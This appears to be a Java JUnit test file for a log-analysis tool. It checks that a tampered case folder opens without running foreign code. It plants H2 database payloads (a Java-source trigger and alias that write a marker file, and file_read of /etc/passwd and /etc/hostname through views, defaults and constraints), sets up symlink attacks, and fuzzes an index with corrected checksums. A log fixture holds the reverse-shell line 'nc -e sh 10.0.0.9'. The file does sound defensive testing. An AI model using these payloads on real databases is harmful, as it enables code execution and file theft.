package salvor.casefile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Clock;
import java.util.List;
import java.util.Random;
import java.util.zip.CRC32C;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import salvor.casefile.CaseNote.About;
import salvor.casefile.CaseUnusable.Problem;
import salvor.evidence.Observations;
import salvor.jobs.Progress;

/** A case folder that somebody else made, to have a program run or crash where it is opened. */
class HostileCaseTest {
  private static final String MARKER = "salvor.test.marker";

  @TempDir Path dir;
  private Path evidence;
  private Path folder;
  private Path marker;
  private final Cases cases = new Cases(Synthetic::read, Synthetic::judge, Clock.systemUTC());

  @BeforeEach
  void makeACase() throws Exception {
    folder = dir.resolve("case");
    marker = dir.resolve("marker");
    evidence = Files.writeString(dir.resolve("a.log"), "ls -l\nnc -e sh 10.0.0.9\n?\n");
    cases.open(Opening.inFolder(List.of(evidence), List.of(), folder), Progress.NONE).close();
  }

  /** Whether H2 takes the statement, so that the attack is one. */
  private boolean plant(String... statements) throws SQLException {
    try (Connection other =
            DriverManager.getConnection("jdbc:h2:file:" + folder.resolve("case"), "sa", "");
        Statement statement = other.createStatement()) {
      for (String each : statements) {
        try {
          statement.execute(each);
        } catch (SQLException refused) {
          return false;
        }
      }
    }
    return true;
  }

  private void opensWithoutRunningAnything() throws Exception {
    System.setProperty(MARKER, marker.toString());
    try (OpenedCase opened =
        cases.open(Opening.inFolder(List.of(), List.of(), folder), Progress.NONE)) {
      assertThat(opened.evidence().observations().size()).isEqualTo(2);
      assertThat(opened.notes())
          .extracting(CaseNote::about)
          .containsExactly(About.DATABASE_UNUSABLE);
      assertThatThrownBy(() -> opened.edits().star(0))
          .isInstanceOfSatisfying(
              CaseUnusable.class, e -> assertThat(e.problem()).isEqualTo(Problem.DATABASE_FOREIGN))
          .hasMessageContaining("case.mv.db")
          .hasMessageContaining("moving the file away");
    } finally {
      System.clearProperty(MARKER);
    }
    assertThat(marker).doesNotExist();
  }

  private static final String ATTACK =
      "String file = System.getProperty(\"salvor.test.marker\");"
          + " if (file != null) java.nio.file.Files.writeString(java.nio.file.Path.of(file), \"code ran\");";
  private static final String SOURCE =
      "'org.h2.api.Trigger t() throws Exception { "
          + ATTACK
          + " return new org.h2.api.Trigger() {"
          + " public void fire(java.sql.Connection c, Object[] o, Object[] n) {} }; }'";

  private static final int ROUNDS = Integer.getInteger("fuzz.rounds", 300);

  @Test
  void theSameTriggerDoesRunWhenH2OpensTheFileItself() throws Exception {
    assertThat(plant("create trigger t before insert on entry as " + SOURCE)).isTrue();
    System.setProperty(MARKER, marker.toString());
    try {
      assertThat(plant("select 1")).isTrue();
    } finally {
      System.clearProperty(MARKER);
    }
    assertThat(marker).as("else the tests below prove nothing").exists();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "create trigger t before insert on entry as " + SOURCE,
        "create alias f as 'String f() throws Exception { " + ATTACK + " return null; }'",
        "create force view v as select file_read('/etc/passwd')",
        "alter table window_state add column x varchar default file_read('/etc/hostname')",
        "alter table window_state add column x varchar generated always as (file_read('/etc/hostname'))",
        "alter table window_state add constraint c check (file_read('/etc/hostname') is not null)",
        "create linked table l('', 'jdbc:h2:mem:other;INIT=CREATE TABLE A(B INT)', 'sa', '', 'A')",
        "create domain d as varchar default file_read('/etc/hostname')",
        "create constant k value 1",
        "create sequence s",
        "create schema other",
        "create synonym y for entry",
        "create role r",
        "create memory table m(n int)",
        "set default_lock_timeout 5",
        "comment on table entry is 'Bobby'",
        "create user other password 'x'",
        "create table \"odd\"\"name\"(n int)"
      })
  void aDatabaseWithForeignStatementsIsNotOpened(String statement) throws Exception {
    assertThat(plant(statement)).isTrue();
    opensWithoutRunningAnything();
  }

  @Test
  void manyEditsLeaveOnlyOurOwnStatements() throws Exception {
    try (OpenedCase opened =
        cases.open(Opening.inFolder(List.of(), List.of(), folder), Progress.NONE)) {
      for (int i = 0; i < 60; i++) {
        opened.edits().tag("t" + i, 0, 1);
      }
    }
    assertThat(plant("analyze")).isTrue(); // writes selectivities into the statements
    try (OpenedCase opened =
        cases.open(Opening.inFolder(List.of(), List.of(), folder), Progress.NONE)) {
      assertThat(opened.notes()).isEmpty();
      assertThat(opened.marks().of(0).tags()).hasSize(60);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "case.lock",
        "case.mv.db",
        "observations.index",
        "observations.index.new",
        "import.pending"
      })
  void aLinkInACaseFolderLeadsNowhere(String name) throws Exception {
    Path victim = Files.writeString(dir.resolve("victim"), "precious");
    Files.deleteIfExists(folder.resolve(name));
    Files.createSymbolicLink(folder.resolve(name), victim);
    assertThatThrownBy(
            () -> cases.open(Opening.inFolder(List.of(), List.of(), folder), Progress.NONE))
        .isInstanceOfSatisfying(
            CaseUnusable.class, e -> assertThat(e.problem()).isEqualTo(Problem.NOT_PLAIN))
        .hasMessageContaining(name);
    assertThat(victim).hasContent("precious");
  }

  @Test
  void anIndexWithAnyNumberButRightSumsIsRefusedOrHarmless() throws Exception {
    byte[] whole = Files.readAllBytes(folder.resolve("observations.index"));
    Random random = new Random(20261123);
    int[] odd = {-1, Integer.MIN_VALUE, Integer.MAX_VALUE, 1 << 24, 3, 255};
    int refused = 0;
    for (int round = 0; round < ROUNDS; round++) {
      byte[] bytes = whole.clone();
      ByteBuffer index = ByteBuffer.wrap(bytes).order(ByteOrder.LITTLE_ENDIAN);
      int at = 16 + random.nextInt((bytes.length - 20) / 4) * 4;
      index.putInt(at, odd[random.nextInt(odd.length)]);
      resum(index);
      Path file = Files.write(dir.resolve("x.index"), bytes);
      try {
        look(IndexReader.open(file));
      } catch (IndexUnusable e) {
        refused++;
      }
    }
    assertThat(refused).isGreaterThan(ROUNDS / 10);
  }

  /** Makes all sums right, where the header still has them in the file. */
  private static void resum(ByteBuffer index) {
    int sections = index.getInt(16);
    int header = IndexLayout.FIXED + sections * IndexLayout.ENTRY;
    if (sections < 0 || sections > 1000 || header + 4 > index.capacity()) {
      return;
    }
    for (int i = 0; i < sections; i++) {
      int entry = IndexLayout.FIXED + i * IndexLayout.ENTRY;
      long offset = index.getLong(entry);
      long length = index.getLong(entry + 8);
      if (offset >= 0 && length >= 0 && offset + length <= index.capacity()) {
        index.putInt(entry + 16, sum(index.slice((int) offset, (int) length)));
      }
    }
    index.putInt(header, sum(index.slice(0, header)));
  }

  private static int sum(ByteBuffer bytes) {
    CRC32C sum = new CRC32C();
    sum.update(bytes);
    return (int) sum.getValue();
  }

  private static void look(IndexReader.Opened opened) {
    Observations all = opened.observations();
    for (int row = 0; row < all.size(); row++) {
      assertThat(all.get(row).toString()).isNotEmpty();
      assertThat(opened.verdicts().judgement(row).verdict()).isNotNull();
      assertThat(opened.stored().sources().get(all.sourceId(row))).isNotNull();
    }
    assertThat(all.firstAtOrAfter(Synthetic.START)).isBetween(0, all.timed());
  }
}
